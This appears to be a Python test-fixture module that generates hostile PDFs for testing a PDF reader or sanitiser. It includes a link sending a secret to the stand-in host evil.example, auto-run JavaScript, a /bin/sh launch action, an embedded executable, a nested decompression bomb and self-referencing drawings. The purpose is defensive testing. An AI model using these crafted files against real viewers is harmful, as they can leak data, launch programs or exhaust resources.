"""Hostile PDF files, made on the spot, object by object."""

import zlib
from collections.abc import Iterator, Sequence

SECRET = b"5ecret-marker-of-a-reporter"
_DRAWING = b"0.2 0.4 0.8 rg 20 20 100 60 re f"


def pdf_of(objects: Sequence[bytes], *, trailer: bytes = b"") -> bytes:
    """A PDF of these objects, numbered from 1, the first of which is its catalogue."""
    whole, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, start=1):
        places.append(len(whole))
        whole += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    end = b"trailer\n<</Size %d/Root 1 0 R%b>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, len(whole))
    return whole + head + table + end


def stream(data: bytes, entries: bytes = b"") -> bytes:
    """A stream of a PDF with entries of its dictionary."""
    return b"<<%b/Length %d>>stream\n%b\nendstream" % (entries, len(data), data)


def one_page(
    *more: bytes,
    box: bytes = b"0 0 200 300",
    page: bytes = b"",
    catalogue: bytes = b"",
    drawing: bytes = _DRAWING,
    trailer: bytes = b"",
) -> bytes:
    """A PDF of one page; what is more in it are the objects from 5 on."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R%b>>" % catalogue,
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[%b]/Contents 4 0 R%b>>" % (box, page),
        stream(drawing),
        *more,
    ]
    return pdf_of(objects, trailer=trailer)


def blank(sizes: Sequence[tuple[int, int]]) -> bytes:
    """A PDF of empty pages of these sizes in points."""
    kids = b" ".join(b"%d 0 R" % (3 + number) for number in range(len(sizes)))
    pages = [b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 %d %d]>>" % size for size in sizes]
    return pdf_of(
        [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[%b]/Count %d>>" % (kids, len(sizes)), *pages]
    )


def titled(*, pages: int = 1) -> bytes:
    """A PDF of that many empty pages of 200 by 300 points with the secret as its title."""
    kids = b" ".join(b"%d 0 R" % (3 + number) for number in range(pages))
    objects = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[%b]/Count %d>>" % (kids, pages)]
    objects += [b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 300]>>"] * pages
    objects.append(b"<</Title(%b)/Author(%b)/Producer(%b)>>" % (SECRET, SECRET, SECRET))
    return pdf_of(objects, trailer=b"/Info %d 0 R" % len(objects))


def with_secrets() -> Iterator[tuple[str, bytes]]:
    """Files that can be read, each with the secret somewhere in it."""
    yield "PDF with a title", titled()
    note = b"<</Type/Annot/Subtype/Text/Rect[10 10 30 30]/Contents(%b)>>" % SECRET
    yield "PDF with a note", one_page(note, page=b"/Annots[5 0 R]")
    link = b"<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A<</S/URI/URI(https://evil.example/%b)>>>>" % SECRET
    yield "PDF with a link", one_page(link, page=b"/Annots[5 0 R]")
    script = b"<</S/JavaScript/JS(app.alert\\('%b'\\);this.exportDataObject\\({cName:'x'}\\))>>" % SECRET
    yield "PDF with a script that runs when it is opened", one_page(script, catalogue=b"/OpenAction 5 0 R")
    yield "PDF with a script that runs when its page is seen", one_page(script, page=b"/AA<</O 5 0 R>>")
    launch = b"<</S/Launch/F(/bin/sh)/P(%b)>>" % SECRET
    yield "PDF that starts a program", one_page(launch, catalogue=b"/OpenAction 5 0 R")
    file = b"<</Type/Filespec/F(%b.exe)/EF<</F 6 0 R>>>>" % SECRET
    names = b"/Names<</EmbeddedFiles<</Names[(x)5 0 R]>>>>"
    yield "PDF with a file inside", one_page(file, stream(b"MZ" + SECRET), catalogue=names)
    xmp = stream(b"<x:xmpmeta>" + SECRET, b"/Type/Metadata/Subtype/XML")
    yield "PDF with xmp", one_page(xmp, catalogue=b"/Metadata 5 0 R")
    field = b"<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/V(%b)/Rect[10 10 90 30]/AA<</K 6 0 R>>>>" % SECRET
    form = b"/AcroForm<</Fields[5 0 R]/XFA(%b)>>" % SECRET
    yield "PDF with a form", one_page(field, script, catalogue=form, page=b"/Annots[5 0 R]")
    yield "PDF with a program behind it", titled() + b"MZ" + SECRET
    yield "PDF with an archive behind it", titled() + b"PK\x03\x04" + b"\0" * 26 + SECRET
    yield "PDF with words nobody sees", one_page(drawing=b"BT 3 Tr (%b) Tj ET" % SECRET)


def _locked(filter_name: bytes) -> bytes:
    """A PDF whose password nobody knows."""
    rule = b"<</Filter/%b/V 1/R 2/P -4/O<%b>/U<%b>>>" % (filter_name, b"5a" * 32, b"a5" * 32)
    return one_page(rule, trailer=b"/Encrypt 5 0 R/ID[<%b><%b>]" % (b"00" * 16, b"00" * 16))


def _with_image(entries: bytes, data: bytes) -> bytes:
    """A PDF that draws one picture from inside it."""
    image = stream(data, b"/Type/XObject/Subtype/Image" + entries)
    return one_page(image, page=b"/Resources<</XObject<</I 5 0 R>>>>", drawing=b"200 0 0 300 0 0 cm /I Do")


def odd() -> Iterator[tuple[str, bytes]]:
    """Files that are read, though they are made to trouble the program that draws them."""
    yield "PDF of a huge page", one_page(box=b"0 0 14400 14400")
    yield "PDF of a page larger than the world", one_page(box=b"0 0 9000000000 9000000000")
    yield "PDF of a page like a thread", one_page(box=b"0 0 14400 1")
    yield "PDF of a page like a dot", one_page(box=b"0 0 0.001 0.001")
    yield "PDF of a page without size", one_page(box=b"0 0 0 0")
    grey = b"/Width 30000/Height 30000/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/FlateDecode"
    yield "PDF with a picture that lies about its size", _with_image(grey, zlib.compress(b"\0" * 1_000_000))
    small = b"/Width 4/Height 4/ColorSpace/DeviceGray/BitsPerComponent 8/Filter[/FlateDecode/FlateDecode]"
    twice = zlib.compress(zlib.compress(b"\0" * 300_000_000, 9), 9)
    yield "PDF with a bomb in a bomb", _with_image(small, twice)
    for name in (b"JPXDecode", b"JBIG2Decode", b"DCTDecode", b"CCITTFaxDecode"):
        rubbish = b"/Width 40/Height 40/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/" + name
        yield f"PDF with rubbish for {name.decode()}", _with_image(rubbish, bytes(range(256)) * 4)
    yield "PDF that saves its state without end", one_page(drawing=b"q " * 200_000)
    yield "PDF of brackets", one_page(drawing=b"[" * 100_000)
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
    text = b"BT /F 24 Tf 20 150 Td (Words to read) Tj ET"
    yield "PDF with letters", one_page(font, page=b"/Resources<</Font<</F 5 0 R>>>>", drawing=text)


def troublesome() -> Iterator[tuple[str, bytes]]:
    """Files that keep the program busy or bring it down, so that either answer is right."""
    itself = stream(b"/F Do /F Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F 5 0 R>>>>")
    yield (
        "PDF with a drawing of itself",
        one_page(itself, page=b"/Resources<</XObject<</F 5 0 R>>>>", drawing=b"/F Do"),
    )
    cell = stream(b"0 0 1 1 re f", b"/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep 1/YStep 1")
    pattern = b"/Resources<</Pattern<</P 5 0 R>>>>"
    yield "PDF of a pattern of crumbs", one_page(cell, page=pattern, drawing=b"/Pattern cs /P scn 0 0 200 300 re f")
    yield "PDF of many lines", one_page(drawing=b"0 0 m 200 300 l S " * 5_000)


def refused() -> Iterator[tuple[str, bytes]]:
    """Files that must be refused."""
    yield "PDF's beginning only", b"%PDF-1.7\n"
    yield "PDF of six pages", titled(pages=6)
    yield "PDF without pages", pdf_of([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>"])
    million = b"<</Type/Pages/Kids[3 0 R]/Count 1000000>>"
    yield "PDF that tells of a million pages", pdf_of([b"<</Type/Catalog/Pages 2 0 R>>", million, b"<</Type/Page>>"])
    yield "PDF with a password", _locked(b"Standard")
    yield "PDF with a lock of nobody's", _locked(b"Evil")
    yield "PDF of damaged pages", b"%PDF-1.4\n" + b"1 0 obj <</Type /Catalog>> endobj " * 50
    yield "PDF behind a page", b"<html></html>" + titled()
    for share in (0.1, 0.5):
        yield f"the first {share:.0%} of a PDF", titled()[: int(len(titled()) * share)]
